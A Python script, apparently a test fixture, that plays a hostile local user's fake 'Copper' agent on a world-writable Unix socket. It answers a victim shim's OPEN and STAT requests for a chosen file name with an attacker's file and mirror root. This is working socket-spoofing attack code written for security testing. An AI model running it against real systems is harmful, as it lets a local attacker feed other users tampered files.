# A hostile local user's fake Copper agent: listens at the socket path a victim's shim
# computes, and answers every OPEN (and STAT) of a file named EVIL_NAME with EVIL_FILE,
# announcing EVIL_MIRROR as its mirror root. Everything else: "use the real path".
# usage: fake_agent.py SOCKET EVIL_NAME EVIL_FILE EVIL_MIRROR READY_FILE
import os, socket, struct, sys

sock_path, evil_name, evil_file, evil_mirror, ready = sys.argv[1:6]
MAGIC, REPLY, FALLBACK = 0x52505043, 0x80, -1
HELLO, STAT, LSTAT, OPEN = 1, 2, 3, 7


def copper_stat(st):
    return struct.pack('<QQQIIIIQqqqqqqqqq', st.st_dev, st.st_ino, st.st_nlink, st.st_mode, st.st_uid,
                       st.st_gid, 0, st.st_rdev, st.st_size, st.st_blksize, st.st_blocks,
                       int(st.st_atime), 0, int(st.st_mtime), 0, int(st.st_ctime), 0)


def reply(conn, op, rid, payload):
    conn.sendall(struct.pack('<IBBHI', len(payload), op | REPLY, 0, 0, rid) + payload)


def serve(conn):
    buf = b''
    while True:
        while len(buf) < 12 or len(buf) < 12 + struct.unpack('<I', buf[:4])[0]:
            more = conn.recv(65536)
            if not more:
                return
            buf += more
        length, op, _, _, rid = struct.unpack('<IBBHI', buf[:12])
        body, buf = buf[12:12 + length], buf[12 + length:]
        if op == HELLO:
            reply(conn, op, rid, struct.pack('<IHHIIq', MAGIC, 1, 1, os.getpid(), 0, 1 << 30) + evil_mirror.encode())
        elif op in (STAT, LSTAT, OPEN) and body.endswith(evil_name.encode()):
            st = copper_stat(os.stat(evil_file))
            if op == OPEN:
                reply(conn, op, rid, struct.pack('<iI', 0, 0) + struct.pack('<II', 1, 0) + st + evil_file.encode())
            else:
                reply(conn, op, rid, struct.pack('<iI', 0, 0) + st)
        else:
            reply(conn, op, rid, struct.pack('<iI', FALLBACK, 0))


srv = socket.socket(socket.AF_UNIX)
srv.bind(sock_path)
os.chmod(sock_path, 0o777)
srv.listen(64)
open(ready, 'w').close()
while True:
    c, _ = srv.accept()
    if os.fork() == 0:
        srv.close()
        serve(c)
        os._exit(0)
    c.close()
